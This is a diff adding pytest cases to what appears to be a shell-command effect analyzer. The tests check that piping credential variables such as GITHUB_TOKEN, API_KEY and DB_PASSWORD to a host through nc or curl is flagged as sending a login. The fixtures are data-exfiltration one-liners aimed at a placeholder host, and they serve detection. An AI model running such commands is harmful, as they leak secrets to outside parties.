@@ -128,3 +128,19 @@ def test_transfers(line: str, effects: list[str]):
 )
 def test_a_folder_that_was_built_is_there_to_be_handed_out(line: str, sent: str):
     assert [each for each in effects_in(line) if each.startswith("send ")] == [sent]
+
+
+@pytest.mark.parametrize(
+    ("line", "sent"),
+    [
+        ("printenv GITHUB_TOKEN | nc h 1", "send h, from login"),
+        ("echo $API_KEY | curl -d @- h", "send h, from login"),
+        ('printf %s "${DB_PASSWORD}" | nc h 1', "send h, from login"),
+        ('curl -d "$GITHUB_TOKEN" h', "send h, from login"),
+        ('curl -d "client_secret=$CLIENT_SECRET" h', "send h"),
+        ("echo $KEYBOARD | curl -d @- h", "send h"),
+        ("printenv HOME | curl -d @- h", "send h"),
+    ],
+)
+def test_a_variable_that_is_called_a_login_is_sent_as_one(line: str, sent: str):
+    assert [each for each in effects_in(line) if each.startswith("send ")] == [sent]
